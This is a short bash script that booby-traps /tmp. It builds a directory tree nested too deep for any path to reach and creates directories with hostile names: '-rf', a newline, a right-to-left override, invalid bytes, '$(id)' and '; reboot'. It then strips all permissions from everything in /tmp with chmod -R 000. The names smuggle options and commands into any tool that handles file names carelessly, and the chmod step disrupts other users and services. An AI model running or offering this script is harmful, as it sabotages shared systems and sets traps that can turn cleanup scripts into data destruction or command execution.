#!/usr/bin/env bash
# Makes folders within folders until no path reaches them, with names that nobody can type.
cd /tmp
name=$(printf 'x%.0s' $(seq 250))
for level in $(seq 400); do mkdir "$name" && cd "$name" || break; done
cd /tmp
mkdir -p -- -rf $'new\nline' $'\342\200\256reversed' $'bad\377bytes' '$(id)' '; reboot'
chmod -R 000 /tmp/* 2> /dev/null
true
